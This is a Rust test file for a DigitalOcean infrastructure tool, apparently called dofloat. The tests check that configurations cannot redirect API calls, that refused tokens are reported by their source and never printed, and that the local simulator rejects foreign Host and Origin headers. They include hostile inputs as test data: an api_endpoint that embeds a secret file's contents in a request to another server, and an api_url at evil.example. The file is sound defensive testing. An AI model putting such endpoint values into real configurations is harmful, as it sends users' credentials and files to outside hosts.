//! Who is trusted with what: another API only where somebody outside the configuration says so, and a token by its source.
//!
//! Invariant: every server here is on loopback, and a refused one is watched: it is not even called.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt as _;

use dofloat::sim::{Options, Scopes};
use serde_json::Value;

use crate::support::cloud::Cloud;
use crate::support::harness::{Outcome, Stack};

const TAG: &str = "resource \"digitalocean_tag\" \"t\" {\n  name = \"t\"\n}\n";

/// The lines of a machine-readable stream of one type.
fn lines(outcome: &Outcome, kind: &str) -> Vec<Value> {
    outcome
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).expect("a line of JSON"))
        .filter(|line: &Value| line["type"] == kind)
        .collect()
}

/// A server that must not be called.
struct Stranger(TcpListener);

impl Stranger {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        listener.set_nonblocking(true).expect("it can");
        Self(listener)
    }

    fn url(&self) -> String {
        format!("http://{}", self.0.local_addr().expect("it listens"))
    }

    fn was_called(&self) -> bool {
        self.0.accept().is_ok()
    }
}

#[test]
fn a_configuration_alone_leads_to_no_other_api() {
    let stranger = Stranger::listen();
    let plan = format!(
        "provider \"digitalocean\" {{\n  api_endpoint = \"{}/${{urlencode(file(\"${{path.module}}/hush.txt\"))}}\"\n}}\n{TAG}",
        stranger.url()
    );
    let stack = Stack::with_plan("web", &plan).env("DIGITALOCEAN_TOKEN", "token-of-the-user-4714");
    stack.write("plans/hush.txt", "hush-hush-4711");
    let commands: [&[&str]; 7] = [
        &["plan"],
        &["plan", "-json"],
        &["apply", "-auto-approve"],
        &["destroy", "-auto-approve"],
        &["refresh"],
        &["import", "digitalocean_tag.t", "t"],
        &["status"],
    ];
    for command in commands {
        stack.write("state/web.json", "");
        fs::remove_file(stack.path("state/web.json")).expect("it is there");
        let outcome = stack.run(command).exits(1).mentions("is not the API of DigitalOcean").mentions("plans/web.tf");
        let outcome = outcome.mentions("DOFLOAT_ALLOW_API_ENDPOINT=");
        assert!(!outcome.to_string().contains("4711") && !outcome.to_string().contains("4714"), "{outcome}");
        assert!(!stranger.was_called(), "{command:?}");
    }
    let allowed = [("DOFLOAT_ALLOW_API_ENDPOINT", stranger.url()), ("DIGITALOCEAN_HTTP_RETRY_MAX", "0".to_owned())];
    let allowed: Vec<(&str, &str)> = allowed
        .iter()
        .map(|(name, value)| (*name, value.as_str()))
        .chain([("DOFLOAT_CLOCK", "virtual"), ("DOFLOAT_TIME_LIMIT", "50")])
        .collect();
    stack.run_env(&allowed, &["plan"]).exits(1);
    assert!(stranger.was_called());
}

#[test]
fn nodes_are_sent_to_no_other_api_either() {
    let cloud = Cloud::start(Options::default());
    let stack = cloud.stack().env("TF_VAR_failover_token", "token-of-the-nodes-4712");
    stack.replace(
        "plans/ha-modern.tf",
        "  nodes  = [\"primary\", \"secondary\"]\n",
        "  nodes  = [\"primary\", \"secondary\"]\n  api_url = \"https://evil.example/hush\"\n",
    );
    cloud.forget_log();
    for command in ["plan", "apply"] {
        let outcome = stack.run(&[command, "ha-modern", "-auto-approve"][..if command == "plan" { 2 } else { 3 }]).exits(1);
        let outcome = outcome.mentions("https://evil.example is not the API of DigitalOcean").mentions("plans/ha-modern.tf");
        assert!(!outcome.to_string().contains("4712"), "{outcome}");
    }
    assert_eq!(cloud.requests().0, 0);
    stack.run_env(&[("DOFLOAT_ALLOW_API_ENDPOINT", "evil.example")], &["plan", "ha-modern"]).ok();
    stack.run(&["plan", "ha-modern", "--sim"]).ok();
}

#[test]
fn the_first_line_names_another_api() {
    let cloud = Cloud::start(Options::default());
    let stack = cloud.serve(Stack::with_plan("web", TAG));
    let first = |outcome: &Outcome| outcome.stdout.lines().next().unwrap_or_default().to_owned();
    let other = first(&stack.run(&["plan"]).ok());
    assert!(other.starts_with("Stack web, API http://127.0.0.1:") && other.ends_with(" (not DigitalOcean)"), "{other}");
    assert_eq!(first(&stack.run(&["apply", "-auto-approve"]).ok()), other);
    let json = lines(&stack.run(&["plan", "-json"]).ok(), "stack").remove(0);
    assert_eq!(json["@message"], other.as_str());
    assert!(json["api"].as_str().is_some_and(|api| other.contains(api)), "{json}");
    assert_eq!(json["token_source"], "DIGITALOCEAN_TOKEN");
    assert_eq!(first(&stack.run(&["destroy", "-auto-approve"]).ok()), other);
    assert_eq!(first(&stack.run(&["plan", "--sim"]).ok()), "Stack web (simulated)");
}

#[test]
fn a_token_that_is_refused_is_named_by_its_source() {
    const WRONG: &str = "token-that-is-wrong-4713";
    let tokens = BTreeMap::from([(Cloud::TOKEN.to_owned(), Scopes::All)]);
    let cloud = Cloud::start(Options { tokens, ..Options::default() });
    let stack = |plan: &str| cloud.serve(Stack::empty()).without("DIGITALOCEAN_TOKEN").with_file("plans/web/main.tf", plan);
    let doctl = format!("access-token: x\nauth-contexts:\n  work: {WRONG}\n");
    let block = format!("provider \"digitalocean\" {{\n  token = \"{WRONG}\"\n}}\n{TAG}");
    let cases: [(&str, Stack, &[&str]); 7] = [
        ("DIGITALOCEAN_TOKEN", stack(TAG).env("DIGITALOCEAN_TOKEN", WRONG), &[]),
        ("DIGITALOCEAN_ACCESS_TOKEN", stack(TAG).env("DIGITALOCEAN_ACCESS_TOKEN", WRONG), &[]),
        ("DO_TOKEN", stack(TAG).env("DO_TOKEN", WRONG), &[]),
        ("the file token.txt", stack(TAG).with_file("token.txt", WRONG), &["-t", "token.txt"]),
        ("doctl's context \"work\"", stack(TAG).with_file("home/.config/doctl/config.yaml", &doctl), &["--context", "work"]),
        ("plans/web/main.tf:2, provider \"digitalocean\"", stack(&block), &[]),
        // The good one in the environment is not used, and the answer says so.
        ("plans/web/main.tf:2, provider \"digitalocean\"", stack(&block).env("DIGITALOCEAN_TOKEN", Cloud::TOKEN), &[]),
    ];
    for (source, stack, options) in cases {
        for command in [&["plan"][..], &["apply", "-auto-approve"], &["status"]] {
            let text = stack.run(&[command, options].concat()).exits(1);
            if command != ["status"] {
                assert!(text.stderr.contains(&format!("it comes from {source}")), "{text}");
            }
            assert!(!text.to_string().contains("4713"), "{text}");
        }
        let json = stack.run(&[&["plan", "-json"], options].concat()).exits(1);
        let told = lines(&json, "diagnostic").remove(0);
        assert!(told["diagnostic"]["detail"].as_str().is_some_and(|detail| detail.contains(&format!("it comes from {source}"))), "{told}");
        assert!(lines(&json, "stack")[0]["token_source"].as_str().is_some_and(|named| named.starts_with(source)), "{json}");
        assert!(!json.to_string().contains("4713"), "{json}");
    }
    let good = stack(&block.replace(WRONG, Cloud::TOKEN)).env("DIGITALOCEAN_TOKEN", WRONG);
    good.run(&["plan"]).ok().mentions("The token of the configuration is used, not that of DIGITALOCEAN_TOKEN.");
}

#[test]
fn an_identity_that_others_can_read_is_told_of() {
    let stack = Stack::with_plan("web", TAG);
    stack.write("home/.config/dofloat/identity.txt", "AGE-SECRET-KEY-HUSH4711\n");
    let identity = stack.path("home/.config/dofloat/identity.txt");
    let told = "Other users can read the identity";
    for (mode, is_told) in [(0o644, true), (0o640, true), (0o604, true), (0o600, false), (0o400, false)] {
        fs::set_permissions(&identity, fs::Permissions::from_mode(mode)).expect("it is ours");
        let said = stack.run(&["plan", "--sim"]).ok();
        assert_eq!(said.to_string().contains(told), is_told, "{mode:o} {said}");
        let said = stack.run(&["state", "recipients"]).to_string();
        assert_eq!(said.contains(told), is_told, "{mode:o} {said}");
        assert!(!said.contains("HUSH4711"), "{said}");
    }
}

/// A page can make a browser of this machine send requests to loopback; it cannot keep the browser from saying for whom.
#[test]
pub(crate) fn no_web_page_drives_a_simulator() {
    let cloud = Cloud::start(Options::default());
    let place = cloud.address().trim_start_matches("http://").to_owned();
    let answer = |host: &str, more: &str| {
        let mut line = TcpStream::connect(&place).expect("the simulator listens");
        let token = Cloud::TOKEN;
        let head = format!("GET /v2/account HTTP/1.1\r\nhost: {host}\r\nauthorization: Bearer {token}\r\n{more}connection: close\r\n\r\n");
        line.write_all(head.as_bytes()).expect("it reads");
        let mut answer = String::new();
        line.read_to_string(&mut answer).expect("it answers");
        answer.lines().next().unwrap_or_default().to_owned()
    };
    assert!(answer(&place, "").contains("200"));
    for (host, more) in [("evil.example", ""), (place.as_str(), "origin: http://evil.example\r\n")] {
        let answer = answer(host, more);
        assert!(answer.contains("403"), "{host} {more}: {answer}");
    }
}
